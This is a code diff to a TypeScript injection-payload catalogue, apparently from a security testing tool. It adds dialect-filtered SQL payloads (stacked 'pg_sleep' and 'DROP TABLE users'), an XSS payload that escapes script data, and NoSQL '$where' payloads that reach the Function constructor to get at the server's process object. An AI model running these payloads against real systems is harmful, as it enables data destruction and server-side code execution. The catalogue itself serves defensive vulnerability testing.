@@ -9,12 +9,15 @@
  * Payloads are harmless probes (`id`, `alert(1)`, `sleep(1000)`, `DROP TABLE users`): they are
  * only ever parsed, never run, and they read clearly in a proof.
  */
+import type { SqlDialect } from "../types";
 import type { ContextId, HoleContext } from "./context";
 
 interface PayloadEntry {
   text: string;
   /** Where the technique is documented. */
   source: string;
+  /** Only for holes in SQL of these dialects (a function or syntax the others lack). */
+  dialects?: readonly SqlDialect[];
 }
 
 // OWASP Web Security Testing Guide v4.2 sections and cheat sheets the entries below cite.
@@ -68,6 +71,8 @@ export const BENIGN: Record<ContextId, string> = {
   "nosql-document": '{"username": "alice"}',
   "nosql-value": '"alice"',
   "nosql-string": "alice",
+  "nosql-js-string": "alice",
+  "nosql-js-code": "1",
 };
 
 const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
@@ -78,8 +83,11 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
   "sql-string": [
     { text: "{q} OR {q}1{q}={q}1", source: `${WSTG_SQLI}: always-true condition, closed by the query's own quote` },
     { text: "{q} OR 1=1-- ", source: `${WSTG_SQLI}: always-true condition, rest of the query commented out` },
+    { text: "{q}; SELECT pg_sleep(5)-- ", source: `${WSTG_SQLI}: stacked time-delay query (PostgreSQL)`, dialects: ["postgresql"] },
     { text: "{q}; DROP TABLE users; -- ", source: `${WSTG_SQLI}: stacked queries` },
     { text: "{q} UNION SELECT NULL-- ", source: `${WSTG_SQLI}: UNION query technique` },
+    { text: "{q}); SELECT pg_sleep(5)-- ", source: `${WSTG_SQLI}: close a VALUES list or call, stacked time-delay query (PostgreSQL)`, dialects: ["postgresql"] },
+    { text: "{q}); DROP TABLE users; -- ", source: `${WSTG_SQLI}: close a VALUES list or call, stacked queries` },
   ],
   "sql-like": [
     { text: "%{q} OR {q}1{q}={q}1", source: `${WSTG_SQLI}: always-true condition after a wildcard` },
@@ -96,6 +104,7 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
     { text: "1 OR 1=1", source: `${WSTG_SQLI}: numeric always-true condition` },
     { text: "1 OR 1=1-- ", source: `${WSTG_SQLI}: numeric always-true condition, rest commented out` },
     { text: "1) OR 1=1-- ", source: `${WSTG_SQLI}: close a parenthesis (IN lists, function calls) first` },
+    { text: "1; SELECT pg_sleep(5)-- ", source: `${WSTG_SQLI}: stacked time-delay query (PostgreSQL)`, dialects: ["postgresql"] },
     { text: "1; DROP TABLE users", source: `${WSTG_SQLI}: stacked queries` },
     { text: "1; DROP TABLE users-- ", source: `${WSTG_SQLI}: stacked queries, rest commented out` },
     { text: "1 UNION SELECT NULL-- ", source: `${WSTG_SQLI}: UNION query technique` },
@@ -192,6 +201,8 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
   "html-rawtext": [
     { text: "</{tag}><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: end the raw-text element early, new element` },
     { text: "</{tag}><script>alert(1)</script>", source: `${WSTG_XSS}: end the raw-text element early, script element` },
+    // After `<!--<script>` in script data, `</script>` does not end the script until `-->` does.
+    { text: "--></{tag}><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: leave a script data escape, end the element, new element` },
   ],
   "html-comment": [
     { text: "--><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the comment, new element` },
@@ -254,6 +265,17 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
     { text: '{q}, "$where": {q}sleep(1000)', source: `${WSTG_NOSQL}: close the string, add a $where clause` },
     { text: '{q}, "$or": [{}], "x": {q}', source: `${WSTG_NOSQL}: close the string, add an $or that matches everything` },
   ],
+  // JavaScript the server runs: the payload stays inside the JavaScript string the program built.
+  "nosql-js-string": [
+    { text: "{q} || {q}1{q}=={q}1", source: `${WSTG_NOSQL}: $where condition made always true, closed by the code's own quote` },
+    { text: "{q} || sleep(5000) || {q}", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
+    { text: "{q} || this.constructor.constructor({q}return process{q})() || {q}", source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript` },
+  ],
+  "nosql-js-code": [
+    { text: "1 || true", source: `${WSTG_NOSQL}: $where condition made always true` },
+    { text: "1 || sleep(5000)", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
+    { text: 'this.constructor.constructor("return process")()', source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript` },
+  ],
 };
 
 /**
@@ -265,7 +287,8 @@ export function payloadsFor(context: HoleContext): string[] {
   const q = context.quote ?? "";
   const v = BENIGN[context.id];
   const tag = context.tag ?? "script";
-  return CATALOGUE[context.id].map((entry) =>
+  const entries = CATALOGUE[context.id].filter((entry) => !entry.dialects || (context.dialect !== undefined && entry.dialects.includes(context.dialect)));
+  return entries.map((entry) =>
     entry.text.replace(/\{q\}|\{v\}|\{tag\}/g, (m) => (m === "{q}" ? q : m === "{v}" ? v : tag)),
   );
 }
